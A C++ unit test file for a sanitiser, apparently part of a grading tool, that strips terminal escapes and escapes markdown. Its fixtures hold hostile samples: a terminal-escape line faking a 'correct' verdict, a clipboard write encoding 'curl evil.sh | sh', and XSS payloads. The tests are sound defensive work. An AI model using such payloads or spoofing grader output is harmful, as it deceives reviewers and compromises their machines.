#include "util/clean_text.h"

#include <gtest/gtest.h>

namespace kforge {
namespace {

// What a hostile candidate prints: a line that erases itself and paints a green verdict, and a
// clipboard write (OSC 52) of a command.
const std::string kFakeVerdict = "boom\r\x1b[2K\x1b[1A\x1b[32mstatus: correct\x1b[0m   speedup 9.9x\n";
const std::string kClipboard = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done";

TEST(CleanText, TerminalTextDropsEscapeSequencesAndControls) {
  EXPECT_EQ(terminal_text(kFakeVerdict), "boom\nstatus: correct   speedup 9.9x\n");
  EXPECT_EQ(terminal_text(kClipboard), "ok done");
  EXPECT_EQ(terminal_text("a\x1b]52;c;ZXZpbA==\x1b\\b"), "ab");               // OSC ended by ST
  EXPECT_EQ(terminal_text("a\xc2\x9b" "31mred\xc2\x9d" "0;title\x07z"), "aredz");  // C1 CSI and OSC in UTF-8
  EXPECT_EQ(terminal_text("x\x1b(By\x1b" "7z"), "xyz");                           // charset and save-cursor
  EXPECT_EQ(terminal_text(std::string("bell\x07 nul\x00 del\x7f end", 19)), "bell nul del end");
  EXPECT_EQ(terminal_text("tab\tok\r\nline\n"), "tab\tok\nline\n");
  EXPECT_EQ(terminal_text("unterminated \x1b]52;c;AAAA"), "unterminated ");
  EXPECT_EQ(terminal_text("naïve — ünïcode ✓"), "naïve — ünïcode ✓");
  EXPECT_EQ(terminal_text("ends with ESC\x1b"), "ends with ESC");
}

TEST(CleanText, TerminalLineKeepsCandidateTextOnOneLine) {
  EXPECT_EQ(terminal_line(kFakeVerdict), "boom status: correct   speedup 9.9x ");
}

TEST(CleanText, NothingTerminalTextKeepsCanControlTheTerminal) {
  std::string all;
  for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
  const std::string clean = terminal_text(all + kFakeVerdict + kClipboard);
  for (char c : clean) {
    const auto u = static_cast<unsigned char>(c);
    EXPECT_TRUE(u >= 0x20 || c == '\n' || c == '\t') << int(u);
    EXPECT_NE(u, 0x7f);
  }
  EXPECT_EQ(clean.find("\xc2\x9b"), std::string::npos);
}

TEST(CleanText, MarkdownTextCannotMakeHtmlImagesOrLinks) {
  const std::string evil = "<img src=x onerror=alert(1)> ![pwn](http://evil/x.png) [click](http://evil) **bold**";
  EXPECT_EQ(markdown_text(evil), "\\<img src=x onerror=alert(1)\\> \\!\\[pwn\\](http://evil/x.png) "
                                 "\\[click\\](http://evil) \\*\\*bold\\*\\*");
  EXPECT_EQ(markdown_text("a | b &amp; `c`"), "a \\| b \\&amp; \\`c\\`");
  EXPECT_EQ(markdown_text("line one\nline two\x1b[31m"), "line one line two");
}

TEST(CleanText, CodeBlocksAndSpansCannotBeClosedFromInside) {
  const std::string source = "x = 1\n```\n<script>alert(1)</script>\n````\n";
  const std::string block = markdown_code_block(source, "python");
  EXPECT_EQ(block.rfind("`````python\n", 0), 0u) << block;
  EXPECT_EQ(block.substr(block.size() - 6), "`````\n");
  EXPECT_EQ(markdown_code_block("a\x1b[32mb"), "```\nab\n```\n");
  EXPECT_EQ(markdown_code_span("a|b`c\nd"), "``a\\|b`c d``");
  EXPECT_EQ(markdown_code_span("`x"), "`` `x ``");
}

}  // namespace
}  // namespace kforge
